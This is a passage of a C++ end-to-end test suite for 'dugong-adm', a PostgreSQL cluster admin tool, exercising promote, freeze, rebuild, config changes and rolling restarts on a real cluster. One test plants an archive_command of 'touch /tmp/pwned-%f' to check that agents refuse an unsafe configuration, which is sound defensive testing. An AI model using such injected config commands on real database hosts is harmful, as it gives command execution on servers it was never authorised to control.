// dugong-adm against a real cluster (the end-to-end harness: real ZooKeeper, postgres
// and agents). Every command runs as a process, as an operator would run it; the tests
// check its output, its exit status and what it did to the cluster.
#include <gtest/gtest.h>
#include <sys/wait.h>

#include <atomic>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <memory>
#include <mutex>
#include <optional>
#include <set>
#include <stdexcept>
#include <thread>

#include <boost/asio/io_context.hpp>

#include "agent/config.h"
#include "agent/http_server.h"
#include "agent/instance_lock.h"
#include "pg/cluster_config.h"
#include "pg/connection.h"
#include "zk/test_util.h"
#include "pg/sql.h"
#include "statemachine/time_format.h"
#include "tests/e2e/careful_writer.h"
#include "tests/e2e/cluster_harness.h"
#include "zk/testing/zookeeper_server.h"

namespace dugong::e2e {
namespace {

struct AdmRun {
  int code = -1;
  std::string out;  // stdout and stderr
};

std::string quote(const std::string& s) {
  std::string q = "'";
  for (char c : s) q += c == '\'' ? std::string("'\\''") : std::string(1, c);
  return q + "'";
}

// Runs dugong-adm with `args` (already quoted where needed), stdin from /dev/null.
AdmRun adm(const std::string& args) {
  std::string cmd = std::string(DUGONG_ADM_BINARY) + " " + args + " </dev/null 2>&1";
  AdmRun r;
  FILE* f = popen(cmd.c_str(), "r");
  if (!f) return r;
  char buf[4096];
  size_t n;
  while ((n = fread(buf, 1, sizeof buf, f)) > 0) r.out.append(buf, n);
  int status = pclose(f);
  r.code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
  if (std::getenv("DUGONG_ADM_TEST_ECHO")) std::cerr << "$ dugong-adm " << args << "  [exit " << r.code << "]\n" << r.out;
  return r;
}

bool has(const std::string& text, const std::string& needle) { return text.find(needle) != std::string::npos; }

EpochMs wallNowMs() {
  return std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::system_clock::now().time_since_epoch())
      .count();
}

// dugong-adm running in the background; its output is readable while it runs.
class AdmInBackground {
 public:
  explicit AdmInBackground(const std::string& args)
      : thread_([this, args] {
          AdmRun r;
          std::string cmd = std::string(DUGONG_ADM_BINARY) + " " + args + " </dev/null 2>&1";
          FILE* f = popen(cmd.c_str(), "r");
          if (f) {
            char c;
            while (fread(&c, 1, 1, f) == 1) {
              std::lock_guard l(mu_);
              out_ += c;
            }
            int status = pclose(f);
            r.code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
          }
          std::lock_guard l(mu_);
          r.out = out_;
          result_ = r;
        }) {}
  ~AdmInBackground() { wait(); }
  std::string output() {
    std::lock_guard l(mu_);
    return out_;
  }
  bool done() {
    std::lock_guard l(mu_);
    return result_.has_value();
  }
  AdmRun wait() {
    if (thread_.joinable()) thread_.join();
    return result_.value_or(AdmRun{});
  }

 private:
  std::mutex mu_;
  std::string out_;
  std::optional<AdmRun> result_;
  std::thread thread_;
};

// Stands in for a peer's agent: holds its instance lock and answers GET /state with
// health.transitionInFlight as set, counting the requests.
class FakeAgent {
 public:
  explicit FakeAgent(const std::string& configPath) {
    auto config = agent::loadConfig(configPath);
    if (!config) throw std::runtime_error(config.error());
    auto lock = agent::InstanceLock::acquire(config->instanceLockPath());
    if (!lock) throw std::runtime_error(lock.error());
    lock_ = std::move(lock).value();
    server_ = std::make_unique<agent::HttpServer>(
        io_, [this](const agent::HttpRequest& request, agent::HttpServer::Respond respond) {
          if (request.path != "/state") return respond({404, "text/plain", "not found\n"});
          ++stateRequests;
          nlohmann::json j = {{"health", {{"transitionInFlight", inFlight.load()}}}};
          respond({200, "application/json", j.dump()});
        });
    auto listening = server_->listen(config->httpHost, config->httpPort);
    if (!listening) throw std::runtime_error(listening.error());
    thread_ = std::thread([this] { io_.run(); });
  }
  ~FakeAgent() {
    io_.stop();
    if (thread_.joinable()) thread_.join();
  }
  std::atomic<bool> inFlight{true};
  std::atomic<int> stateRequests{0};

 private:
  boost::asio::io_context io_;
  std::unique_ptr<agent::InstanceLock> lock_;
  std::unique_ptr<agent::HttpServer> server_;
  std::thread thread_;
};

class AdmTest : public ::testing::Test {
 protected:
  void TearDown() override {
    if (HasFailure() && h_) std::cerr << h_->describe();
  }
  int startCluster(std::set<std::string> clusterWideSettings = {}, const std::string& extraConfig = "") {
    HarnessOptions o;
    o.cluster = "admtest";
    o.extraConfig = extraConfig;
    o.clusterWideSettings = std::move(clusterWideSettings);
    h_ = std::make_unique<Harness>(o);
    h_->startAll();
    int primary = h_->waitForHealthyCluster(2, 180s);
    EXPECT_GE(primary, 0) << "no writable primary with 2 streaming replicas";
    return primary;
  }
  // dugong-adm -z <zk> -c <cluster> <args>
  AdmRun cmd(const std::string& args) { return adm("-z " + h_->zkConnect() + " -c " + h_->options().cluster + " " + args); }
  int indexWithRole(const std::string& role) { return h_->indexWithRole(role); }

  // Polls `verify` until it exits 0 (the last run is returned).
  AdmRun verifyEventually(std::chrono::seconds timeout) {
    AdmRun r;
    h_->waitFor([&] { return (r = cmd("verify")).code == 0; }, timeout);
    return r;
  }
  std::set<int> ids(int peer) { return h_->intColumn(peer, "SELECT id FROM acked"); }
  // Runs dugong-adm with `args`; expects exit status `code` and, when given, `says` in
  // its output.
  void expectExit(const std::string& args, int code, const std::string& says = "") {
    AdmRun r = cmd(args);
    EXPECT_EQ(r.code, code) << args << ": " << r.out;
    if (!says.empty()) {
      EXPECT_TRUE(has(r.out, says)) << args << ": " << r.out;
    }
  }
  // A 3-peer cluster that `verify` passes; its peers' indexes and ids in roles_.
  void startVerifiedCluster() {
    roles_.primary = startCluster();
    ASSERT_GE(roles_.primary, 0);
    roles_.sync = indexWithRole("sync");
    roles_.async = indexWithRole("async");
    ASSERT_GE(roles_.sync, 0);
    ASSERT_GE(roles_.async, 0);
    roles_.P = h_->peer(roles_.primary).id;
    roles_.S = h_->peer(roles_.sync).id;
    roles_.A = h_->peer(roles_.async).id;
    AdmRun v = verifyEventually(60s);
    ASSERT_EQ(v.code, 0) << v.out;
  }
  struct Roles {
    int primary = -1, sync = -1, async = -1;
    std::string P, S, A;
  } roles_;
  std::unique_ptr<Harness> h_;
};

// show, peers, pg-status, verify, zk-state, zk-active, history on a healthy cluster;
// verify finds a stopped async; bad input changes nothing; promoting the sync while
// writes run loses no acknowledged write.
TEST_F(AdmTest, StatusCommandsVerifyAndPromoteOfTheSyncUnderWrites) {
  int primary = startCluster();
  ASSERT_GE(primary, 0);
  int sync = indexWithRole("sync");
  int async = indexWithRole("async");
  const std::string P = h_->peer(primary).id, S = h_->peer(sync).id, A = h_->peer(async).id;

  AdmRun v = verifyEventually(60s);
  ASSERT_EQ(v.code, 0) << v.out;
  EXPECT_TRUE(has(v.out, "no problems found")) << v.out;

  AdmRun show = cmd("show");
  EXPECT_EQ(show.code, 0) << show.out;
  EXPECT_TRUE(has(show.out, "generation   1")) << show.out;
  EXPECT_TRUE(has(show.out, "not frozen")) << show.out;
  EXPECT_TRUE(has(show.out, "ROLE")) << show.out;

  AdmRun peers = cmd("peers -H -o role,peer");
  ASSERT_EQ(peers.code, 0) << peers.out;
  EXPECT_EQ(peers.out, "primary  " + P + "\nsync     " + S + "\nasync    " + A + "\n");

  AdmRun pgs = cmd("--json pg-status");
  ASSERT_EQ(pgs.code, 0) << pgs.out;
  auto rows = nlohmann::json::parse(pgs.out, nullptr, false);
  ASSERT_TRUE(rows.is_array() && rows.size() == 3u) << pgs.out;
  EXPECT_EQ(rows[0]["peer"], P);
  EXPECT_EQ(rows[0]["pg"], "ok");
  EXPECT_EQ(rows[0]["repl"], "sync");
  EXPECT_EQ(rows[1]["repl"], "async");

  AdmRun twice = cmd("pg-status -r sync -o peer,pg 0.2 2");
  EXPECT_EQ(twice.code, 0) << twice.out;
  EXPECT_EQ(twice.out, "PEER" + std::string(S.size() - 4, ' ') + "  PG\n" + S + "  ok\n\nPEER" +
                           std::string(S.size() - 4, ' ') + "  PG\n" + S + "  ok\n");

  AdmRun state = cmd("zk-state --json");
  ASSERT_EQ(state.code, 0) << state.out;
  auto sj = nlohmann::json::parse(state.out, nullptr, false);
  ASSERT_TRUE(sj.is_object()) << state.out;
  EXPECT_EQ(sj["state"]["primary"]["id"], P);
  AdmRun active = cmd("zk-active");
  EXPECT_EQ(active.code, 0);
  for (const auto& id : {P, S, A}) EXPECT_TRUE(has(active.out, id)) << active.out;
  AdmRun history = cmd("history");
  EXPECT_EQ(history.code, 0);
  EXPECT_TRUE(has(history.out, "cluster set up: primary " + P + ", sync " + S)) << history.out;

  // Bad input: a clear message, a non-zero exit, nothing written.
  const auto before = h_->zkState();
  AdmRun noCluster = adm("-z " + h_->zkConnect() + " -c no-such-cluster show");
  EXPECT_EQ(noCluster.code, 3) << noCluster.out;
  EXPECT_TRUE(has(noCluster.out, "no cluster at /dugong/no-such-cluster")) << noCluster.out;
  AdmRun noZk = adm("-z 127.0.0.1:1 -c admtest --timeout 1 freeze -r x");
  EXPECT_EQ(noZk.code, 3) << noZk.out;
  AdmRun badColumn = cmd("peers -o role,nonsense");
  EXPECT_EQ(badColumn.code, 2) << badColumn.out;
  AdmRun notSync = cmd("promote -i " + A + " -r sync");
  EXPECT_EQ(notSync.code, 1) << notSync.out;
  EXPECT_TRUE(has(notSync.out, A + " is not the sync")) << notSync.out;
  AdmRun badRole = cmd("promote -i " + P + " -r primary");
  EXPECT_EQ(badRole.code, 2) << badRole.out;
  AdmRun reapLive = cmd("reap " + A);
  EXPECT_EQ(reapLive.code, 1) << reapLive.out;
  EXPECT_EQ(h_->zkState()->serialize(), before->serialize());

  // A stopped async: verify says so, while the state still names it and after the
  // primary has dropped it.
  h_->stopAgent(async);
  h_->killPostgres(async);
  AdmRun stopped = cmd("verify");
  EXPECT_EQ(stopped.code, 1) << stopped.out;
  ASSERT_TRUE(h_->waitFor([&] { auto s = h_->zkState(); return s && s->async.empty(); }, 30s));
  stopped = cmd("verify");
  EXPECT_EQ(stopped.code, 1) << stopped.out;
  EXPECT_TRUE(has(stopped.out, "there is no async")) << stopped.out;
  // ... and no switchover without an async to become the new sync.
  AdmRun noAsync = cmd("promote -i " + S + " -r sync");
  EXPECT_EQ(noAsync.code, 1) << noAsync.out;
  h_->startAgent(async);
  v = verifyEventually(90s);
  ASSERT_EQ(v.code, 0) << v.out;

  // Promote the sync while a client writes every 20 ms through the multi-host string.
  ASSERT_TRUE(h_->sql(primary, "CREATE TABLE acked (id int PRIMARY KEY)").ok());
  CarefulWriter writer(h_->multiHostConninfo());
  auto ackedSince = [&](int firstId) { return writer.ackedSince(firstId); };
  // Some writes before the switchover, then the switchover, then writes again: the writer
  // stops once 5 rows begun after the promote returned are acknowledged (or after 60 s).
  for (auto deadline = std::chrono::steady_clock::now() + 30s;
       ackedSince(1) < 5 && std::chrono::steady_clock::now() < deadline;)
    std::this_thread::sleep_for(20ms);
  AdmRun promote = cmd("promote -i " + S + " -r sync");
  const int firstAfterPromote = writer.nextId();
  for (auto deadline = std::chrono::steady_clock::now() + 60s;
       ackedSince(firstAfterPromote) < 5 && std::chrono::steady_clock::now() < deadline;)
    std::this_thread::sleep_for(20ms);
  writer.stop();
  ASSERT_EQ(promote.code, 0) << promote.out;
  EXPECT_TRUE(has(promote.out, "carried out")) << promote.out;
  EXPECT_TRUE(has(promote.out, "primary " + S + " is writable")) << promote.out;
  auto after = h_->zkState();
  ASSERT_TRUE(after.has_value());
  EXPECT_EQ(after->generation, 2);
  EXPECT_EQ(after->primary.id, S);
  // The old primary is deposed, and (rejoin: rewind, the default) rejoins by itself as
  // an async, following as it is after the clean handover. It removes itself from deposed
  // before the new primary appends it, so it is in neither for a moment: wait for the end.
  EXPECT_TRUE(h_->waitFor([&] { auto s = h_->zkState(); return s && containsPeer(s->async, P); }, 60s))
      << h_->describe();
  EXPECT_FALSE(after->hasPromote());
  ASSERT_GE(ackedSince(1), 5u) << "no writes were acknowledged before the switchover";
  ASSERT_GE(ackedSince(firstAfterPromote), 5u) << "writes did not resume after the switchover";
  std::set<int> present = ids(sync);
  for (int id : writer.acked()) EXPECT_EQ(present.count(id), 1u) << "acknowledged row " << id << " is missing";
  AdmRun history2 = cmd("history");
  EXPECT_TRUE(has(history2.out, "promote requested: " + S + " as sync")) << history2.out;
  EXPECT_TRUE(has(history2.out, "sync " + S + " took over as primary from " + P)) << history2.out;
  // show tells the timeline of the new generation's initWal.
  AdmRun show2 = cmd("show");
  EXPECT_TRUE(has(show2.out, "initWal      " + after->initWal.toString() + " on timeline 1")) << show2.out;
}

// Freeze keeps a dead primary's sync from taking over; unfreeze lets it; the deposed
// ex-primary is then rebuilt with `dugong-adm rebuild` into an async that streams.
// With rejoin: manual (Manatee's behaviour), a deposed ex-primary waits for the operator.
TEST_F(AdmTest, FreezeUnfreezeAndRebuildOfADeposedPrimary) {
  int primary = startCluster({}, "rejoin: manual\n");
  ASSERT_GE(primary, 0);
  int sync = indexWithRole("sync");
  const std::string P = h_->peer(primary).id, S = h_->peer(sync).id;

  AdmRun freeze = cmd("freeze -r " + quote("adm test: maintenance"));
  ASSERT_EQ(freeze.code, 0) << freeze.out;
  auto s = h_->zkState();
  ASSERT_TRUE(s && s->frozen());
  EXPECT_EQ(s->freeze["reason"], "adm test: maintenance");
  AdmRun again = cmd("freeze -r other");
  EXPECT_EQ(again.code, 1) << again.out;
  EXPECT_TRUE(has(again.out, "already frozen")) << again.out;
  AdmRun frozenVerify = cmd("verify");
  EXPECT_EQ(frozenVerify.code, 1);
  EXPECT_TRUE(has(frozenVerify.out, "frozen since")) << frozenVerify.out;
  EXPECT_TRUE(has(frozenVerify.out, "adm test: maintenance")) << frozenVerify.out;
  AdmRun frozenPromote = cmd("promote -i " + S + " -r sync");
  EXPECT_EQ(frozenPromote.code, 1) << frozenPromote.out;

  // The primary dies; frozen, nobody takes over.
  h_->killAgent(primary);
  h_->killPostgres(primary);
  std::this_thread::sleep_for(std::chrono::milliseconds(h_->options().sessionTimeoutMs * 3));
  EXPECT_EQ(h_->zkState()->generation, 1);
  EXPECT_EQ(h_->zkState()->primary.id, P);

  AdmRun unfreeze = cmd("unfreeze");
  ASSERT_EQ(unfreeze.code, 0) << unfreeze.out;
  EXPECT_TRUE(has(unfreeze.out, "unfrozen"));
  ASSERT_TRUE(h_->waitFor([&] { auto st = h_->zkState(); return st && st->generation == 2 && st->primary.id == S; },
                          60s));
  AdmRun unfreezeAgain = cmd("unfreeze");
  EXPECT_EQ(unfreezeAgain.code, 0);
  EXPECT_TRUE(has(unfreezeAgain.out, "nothing to do"));
  ASSERT_TRUE(h_->waitFor([&] { return h_->writablePrimary() == sync; }, 60s));
  ASSERT_TRUE(h_->sql(sync, "CREATE TABLE acked (id int PRIMARY KEY); INSERT INTO acked VALUES (1)").ok());
  // Deposed with its agent down: verify says to start the agent before any rebuild.
  AdmRun agentDown = cmd("verify");
  EXPECT_EQ(agentDown.code, 1);
  EXPECT_TRUE(has(agentDown.out, "deposed peer " + P + " does not serve and its agent does not answer")) << agentDown.out;
  EXPECT_TRUE(has(agentDown.out, "start its agent first")) << agentDown.out;

  // The ex-primary's agent comes back and finds itself deposed.
  h_->startAgent(primary);
  ASSERT_TRUE(h_->waitFor([&] { return h_->role(primary) == "deposed"; }, 60s));
  AdmRun deposed = cmd("verify");
  EXPECT_EQ(deposed.code, 1);
  EXPECT_TRUE(has(deposed.out, "deposed peer " + P + " does not serve yet")) << deposed.out;

  // Without a terminal and without -y, rebuild refuses and changes nothing.
  const std::string config = quote(h_->peer(primary).configPath);
  AdmRun refused = adm("rebuild --config " + config);
  EXPECT_EQ(refused.code, 1) << refused.out;
  EXPECT_TRUE(has(refused.out, "pass -y")) << refused.out;
  EXPECT_TRUE(containsPeer(h_->zkState()->deposed, P));

  AdmRun rebuild = adm("rebuild -y --config " + config);
  ASSERT_EQ(rebuild.code, 0) << rebuild.out;
  EXPECT_TRUE(has(rebuild.out, P + " removed from deposed")) << rebuild.out;
  auto st = h_->zkState();
  ASSERT_TRUE(st.has_value());
  EXPECT_FALSE(containsPeer(st->deposed, P));
  EXPECT_TRUE(containsPeer(st->async, P));
  EXPECT_TRUE(h_->waitFor([&] { return h_->httpStatus(primary, "/replica") == 200; }, 60s)) << h_->logTail(primary);
  ASSERT_TRUE(h_->sql(sync, "INSERT INTO acked VALUES (2)").ok());
  EXPECT_TRUE(h_->waitFor([&] { return ids(primary).count(2) == 1; }, 30s));
  AdmRun v = verifyEventually(60s);
  EXPECT_EQ(v.code, 0) << v.out;

  AdmRun history = cmd("history -v");
  EXPECT_TRUE(has(history.out, "frozen: adm test: maintenance")) << history.out;
  EXPECT_TRUE(has(history.out, "unfrozen")) << history.out;
  EXPECT_TRUE(has(history.out, "sync " + S + " took over as primary from " + P)) << history.out;
  EXPECT_TRUE(has(history.out, P + " removed from deposed")) << history.out;
}

// `dugong-adm rebuild` of an async while its agent is still running (here: paused, then
// stopped) waits for the agent to exit, then rebuilds, even though the stopped agent's
// election node stays in ZooKeeper (its session is kept for a restart). Then the
// restarted agent is appended again as the async.
TEST_F(AdmTest, RebuildOfAnAsyncWaitsForItsAgentToExit) {
  int primary = startCluster();
  ASSERT_GE(primary, 0);
  int async = indexWithRole("async");
  const std::string A = h_->peer(async).id;
  h_->pauseAgent(async);
  AdmInBackground running("rebuild -y --wait 0 --agent-wait 120 --config " + quote(h_->peer(async).configPath));
  // Once dugong-adm has found the agent running, stop the agent.
  EXPECT_TRUE(h_->waitFor([&] { return has(running.output(), "waiting up to 120 s for it to exit") || running.done(); },
                          60s))
      << running.output();
  h_->stopAgent(async);
  const AdmRun rebuild = running.wait();
  ASSERT_EQ(rebuild.code, 0) << rebuild.out;
  EXPECT_TRUE(has(rebuild.out, "waiting up to 120 s for it to exit")) << rebuild.out;
  EXPECT_TRUE(has(rebuild.out, A + "'s agent has exited")) << rebuild.out;
  EXPECT_TRUE(has(rebuild.out, "rebuilt")) << rebuild.out;
  EXPECT_FALSE(has(rebuild.out, " written, ")) << "progress is shown on a terminal only: " << rebuild.out;
  h_->startAgent(async);
  EXPECT_TRUE(h_->waitFor([&] { return h_->httpStatus(async, "/replica") == 200; }, 120s)) << h_->logTail(async);
  EXPECT_EQ(h_->zkState()->generation, 1);
}

// A running agent that does not exit: rebuild gives up after --agent-wait and changes
// nothing.
TEST_F(AdmTest, RebuildOfAnAsyncWhoseAgentKeepsRunningIsRefused) {
  int primary = startCluster();
  ASSERT_GE(primary, 0);
  int async = indexWithRole("async");
  AdmRun rebuild = adm("rebuild -y --agent-wait 1 --config " + quote(h_->peer(async).configPath));
  EXPECT_EQ(rebuild.code, 1) << rebuild.out;
  EXPECT_TRUE(has(rebuild.out, "its agent still runs after 1 s")) << rebuild.out;
  EXPECT_EQ(h_->httpStatus(async, "/replica"), 200);
}

// `dugong-adm rebuild` run on a deposed peer while its agent still runs (here a fake
// agent: its instance lock and its /state) waits until postgres is stopped AND the
// agent has no transition in flight, then rebuilds. Without the wait the rebuild met
// the agent stopping postgres ("the database system is shutting down").
TEST_F(AdmTest, RebuildOfADeposedPeerWaitsUntilItsAgentHasStoppedPostgres) {
  int primary = startCluster();
  ASSERT_GE(primary, 0);
  int sync = indexWithRole("sync");
  const std::string P = h_->peer(primary).id;
  // The primary's agent dies with its watchdog; its postgres keeps running; the sync
  // takes over and the old primary is deposed, its postgres still up, as when its agent
  // is about to stop it.
  h_->killAgentAndWatchdog(primary);
  ASSERT_TRUE(h_->waitFor([&] { auto st = h_->zkState(); return st && st->primary.id == h_->peer(sync).id &&
                                                                 containsPeer(st->deposed, P); },
                          60s));
  ASSERT_TRUE(h_->waitFor([&] { return h_->writablePrimary() == sync; }, 60s));
  ASSERT_TRUE(h_->peer(primary).pg->postmasterPid().has_value());
  auto fake = std::make_unique<FakeAgent>(h_->peer(primary).configPath);

  AdmInBackground rebuild("rebuild -y --wait 0 --agent-wait 120 --config " + quote(h_->peer(primary).configPath));
  // 1. Postgres still runs: rebuild says it waits and does nothing else.
  ASSERT_TRUE(h_->waitFor([&] { return has(rebuild.output(), "is stopping postgres") || rebuild.done(); }, 60s));
  ASSERT_FALSE(rebuild.done()) << rebuild.output();
  EXPECT_TRUE(has(rebuild.output(), "waiting up to 120 s")) << rebuild.output();
  // 2. The "agent" stopped postgres but its transition is still in flight: rebuild asks
  //    again and still waits.
  h_->peer(primary).pg->forceStop();
  const int asked = fake->stateRequests.load();
  ASSERT_TRUE(h_->waitFor([&] { return fake->stateRequests.load() >= asked + 2 || rebuild.done(); }, 60s));
  EXPECT_FALSE(rebuild.done()) << rebuild.output();
  EXPECT_FALSE(has(rebuild.output(), "will be rebuilt")) << rebuild.output();
  EXPECT_FALSE(h_->peer(primary).pg->postmasterPid().has_value());
  // 3. The transition is over: rebuild proceeds.
  fake->inFlight = false;
  AdmRun done = rebuild.wait();
  ASSERT_EQ(done.code, 0) << done.out;
  EXPECT_TRUE(has(done.out, "will be rebuilt from the primary " + h_->peer(sync).id)) << done.out;
  EXPECT_TRUE(has(done.out, P + " removed from deposed")) << done.out;
  EXPECT_FALSE(containsPeer(h_->zkState()->deposed, P));
  fake.reset();
  h_->startAgent(primary);
  EXPECT_TRUE(h_->waitFor([&] { return h_->httpStatus(primary, "/replica") == 200; }, 120s)) << h_->logTail(primary);
}

// The cluster-wide configuration: a bad change is refused with the stored bytes
// unchanged; a reloadable setting and an hba line reach every peer by reload; restart-only
// settings go in with `restart --rolling` under writes (standbys first and a switchover
// when max_connections rises; the primary first when it falls, then each standby once it
// has replayed the primary's new values, the async's replay held back meanwhile), losing
// no acknowledged row and rebuilding nothing; every peer then runs the configured value
// and no standby's replay is paused.
TEST_F(AdmTest, ClusterConfigurationReloadAndRollingRestartUnderWrites) {
  int primary = startCluster({"shared_buffers", "max_connections"});
  ASSERT_GE(primary, 0);
  auto zk = zk::Client::connect(h_->zkOptions());
  ASSERT_TRUE(zk) << zk.error();
  auto stored = [&] {
    auto n = (*zk)->readConfig();
    return n && n->exists ? n->data : std::string("(absent)");
  };
  AdmRun first = cmd("config set statement_timeout=1h");
  ASSERT_EQ(first.code, 0) << first.out;
  const std::string bytes = stored();
  for (const auto& [args, reason] : std::vector<std::pair<std::string, std::string>>{
           {"config set port=5999", "managed by dugong"},
           {"config set no_such_setting=1", "unrecognized configuration parameter \"no_such_setting\""},
           {"config set max_connections=lots", "invalid value for parameter \"max_connections\": \"lots\""},
           {"config set wal_level=minimal", "replica or logical"},
           {"config set --add-hba ''", "empty"}}) {
    AdmRun bad = cmd(args);
    EXPECT_EQ(bad.code, 2) << args << ": " << bad.out;
    EXPECT_TRUE(has(bad.out, reason) && has(bad.out, "unchanged")) << args << ": " << bad.out;
    EXPECT_EQ(stored(), bytes) << args;
  }

  // An application role that no pg_hba line admits yet.
  ASSERT_TRUE(h_->sql(primary, "CREATE ROLE dugong_app LOGIN PASSWORD 'app-secret'").ok());
  auto appConnects = [&](int i) {
    return pg::runQuery("host=127.0.0.1 port=" + std::to_string(h_->peer(i).pg->port) +
                            " user=dugong_app password=app-secret dbname=postgres",
                        "SELECT 1", 2s)
        .ok();
  };
  auto show = [&](int i, const std::string& name) {
    auto r = h_->sql(i, "SHOW " + name);
    if (!r) return "(error: " + r.error() + ")";
    return !r->rows.empty() ? r->rows[0][0].value_or("") : std::string();
  };
  for (int i = 0; i < 3; ++i) EXPECT_FALSE(appConnects(i)) << "peer " << i << " admits dugong_app already";
  const auto setAt = std::chrono::steady_clock::now();
  AdmRun set = cmd("config set log_min_duration_statement=250 --add-hba 'host all dugong_app 127.0.0.1/32 "
                   "scram-sha-256'");
  ASSERT_EQ(set.code, 0) << set.out;
  EXPECT_TRUE(h_->waitFor(
      [&] {
        for (int i = 0; i < 3; ++i) {
          if (show(i, "log_min_duration_statement") != "250ms" || !appConnects(i)) return false;
        }
        return true;
      },
      60s))
      << h_->describe();
  std::cerr << "[config] reloadable setting and hba line in effect on all 3 peers after "
            << std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - setAt).count()
            << " ms\n";
  AdmRun history = cmd("config history");
  EXPECT_TRUE(has(history.out, "config set log_min_duration_statement=250")) << history.out;
  AdmRun reload = cmd("reload");
  EXPECT_EQ(reload.code, 0) << reload.out;
  for (int i = 0; i < 3; ++i) EXPECT_TRUE(has(reload.out, h_->peer(i).id + ": postgres reloaded")) << reload.out;
  // A configuration of a newer format: every agent refuses it and keeps the settings in
  // effect; dugong-adm neither shows nor overwrites it.
  const auto current = (*zk)->readConfig();
  ASSERT_TRUE(current.ok() && current->exists);
  // (Format 2 is the replication block's, decision 0079 "Phase 5b": 3 is the newer one.)
  ASSERT_TRUE((*zk)->putConfigBytes(R"({"format": 3, "settings": {"log_min_duration_statement": "999"}})",
                                    current->version, "test: a newer format")
                  .ok);
  EXPECT_TRUE(h_->waitFor(
      [&] {
        for (int i = 0; i < 3; ++i) {
          if (!has(h_->logTail(i, 400), "format 3, newer than the format 2")) return false;
        }
        return true;
      },
      30s));
  for (int i = 0; i < 3; ++i) EXPECT_EQ(show(i, "log_min_duration_statement"), "250ms") << "peer " << i;
  AdmRun newer = cmd("config set work_mem=8MB");
  EXPECT_EQ(newer.code, 1) << newer.out;
  EXPECT_TRUE(has(newer.out, "upgrade this dugong first")) << newer.out;
  // Written without dugong-adm by someone with the node's ACL: a command to run as
  // postgres, which no host allows. Every agent refuses it and keeps the version applied.
  ASSERT_TRUE((*zk)->putConfigBytes(R"({"format": 1, "settings": {"archive_command": "touch /tmp/pwned-%f", )"
                                    R"("log_min_duration_statement": "999"}})",
                                    current->version + 1, "test: an unsafe configuration")
                  .ok);
  EXPECT_TRUE(h_->waitFor(
      [&] {
        for (int i = 0; i < 3; ++i) {
          const std::string log = h_->logTail(i, 400);
          if (!has(log, "refused on this host; postgres keeps the last one applied (version " +
                            std::to_string(current->version) + ")") ||
              !has(log, "clusterConfig.allowUnsafe: [archive_command]")) {
            return false;
          }
        }
        return true;
      },
      30s))
      << h_->logTail(0, 400);
  for (int i = 0; i < 3; ++i) {
    EXPECT_EQ(show(i, "log_min_duration_statement"), "250ms") << "peer " << i;
    EXPECT_EQ(show(i, "archive_command"), "(disabled)") << "peer " << i;
    auto state = h_->status(i);
    ASSERT_TRUE(state) << "peer " << i;
    EXPECT_EQ((*state)["clusterConfig"]["appliedVersion"], current->version) << state->dump();
    EXPECT_TRUE(has((*state)["clusterConfig"]["refused"].dump(), "archive_command")) << state->dump();
  }
  // verify names each peer that refused it, with the setting and why.
  AdmRun refusedVerify = cmd("verify");
  EXPECT_EQ(refusedVerify.code, 1) << refusedVerify.out;
  for (int i = 0; i < 3; ++i) {
    EXPECT_TRUE(has(refusedVerify.out, h_->peer(i).id + " refused the cluster's configuration version " +
                                           std::to_string(current->version + 2) + ": archive_command = "))
        << refusedVerify.out;
  }
  ASSERT_TRUE((*zk)->putConfigBytes(current->data, current->version + 2, "test: restored").ok);
  AdmRun reloadNobody = cmd("reload no-such-peer --wait 1");
  EXPECT_EQ(reloadNobody.code, 2) << reloadNobody.out;

  // Rebuilds so far (the standbys' first copies): none may follow.
  auto rebuilds = [&](int i) {
    const std::string log = h_->logTail(i, 1000000);
    size_t n = 0;
    const std::string rebuilt = "data directory made by replica method";
    for (size_t at = log.find(rebuilt); at != std::string::npos; at = log.find(rebuilt, at + 1)) ++n;
    return n;
  };
  std::vector<size_t> rebuildsBefore;
  for (int i = 0; i < 3; ++i) rebuildsBefore.push_back(rebuilds(i));

  // A careful writer through the multi-host string for the rest of the test.
  ASSERT_TRUE(h_->sql(primary, "CREATE TABLE acked (id int PRIMARY KEY)").ok());
  CarefulWriter writer(h_->multiHostConninfo());

  // Raised: shared_buffers and max_connections are pending until the rolling restart.
  AdmRun raise = cmd("config set shared_buffers=48MB max_connections=120");
  ASSERT_EQ(raise.code, 0) << raise.out;
  EXPECT_TRUE(has(raise.out, "restart --rolling")) << raise.out;
  EXPECT_TRUE(h_->waitFor([&] { return has(cmd("show").out, "shared_buffers"); }, 30s)) << cmd("show").out;
  AdmRun rolling = cmd("restart --rolling");
  ASSERT_EQ(rolling.code, 0) << rolling.out;
  EXPECT_TRUE(has(rolling.out, "switching over to the sync")) << rolling.out;
  for (int i = 0; i < 3; ++i) {
    EXPECT_EQ(show(i, "shared_buffers"), "48MB") << "peer " << i;
    EXPECT_EQ(show(i, "max_connections"), "120") << "peer " << i;
  }
  // Lowered: the primary first, then each standby once it has replayed the primary's new
  // values (operator review P15): restarted before, a standby keeps the old value (its
  // agent raises it to the floor its pg_control holds). The async's replay is held back
  // by a reader on it holding a lock that the replay of the primary's TRUNCATE needs
  // (max_standby_streaming_delay 10min, far beyond the test: until the reader ends).
  const int primaryNow = h_->writablePrimary();
  const int async = indexWithRole("async");
  ASSERT_GE(primaryNow, 0);
  ASSERT_GE(async, 0);
  const std::string A = h_->peer(async).id;
  ASSERT_EQ(cmd("config set max_standby_streaming_delay=10min").code, 0);
  ASSERT_TRUE(h_->sql(primaryNow, "CREATE TABLE held (id int); INSERT INTO held VALUES (1)").ok());
  ASSERT_TRUE(h_->waitFor(
      [&] {
        return show(async, "max_standby_streaming_delay") == "10min" &&
               h_->intColumn(async, "SELECT id FROM held").count(1) == 1;
      },
      30s));
  auto opened = pg::Connection::open(h_->peer(async).pg->conninfo(), std::chrono::steady_clock::now() + 10s);
  ASSERT_TRUE(opened.ok()) << opened.error();
  std::unique_ptr<pg::Connection> reader = std::move(opened).value();
  ASSERT_TRUE(reader->query("BEGIN; LOCK TABLE held IN ACCESS SHARE MODE; SELECT count(*) FROM held",
                            std::chrono::steady_clock::now() + 10s)
                  .ok());
  ASSERT_TRUE(h_->sql(primaryNow, "TRUNCATE held", 20s).ok());
  ASSERT_TRUE(h_->waitFor(
      [&] {
        auto r = h_->sql(async, "SELECT pg_last_wal_receive_lsn() > pg_last_wal_replay_lsn()", 3s);
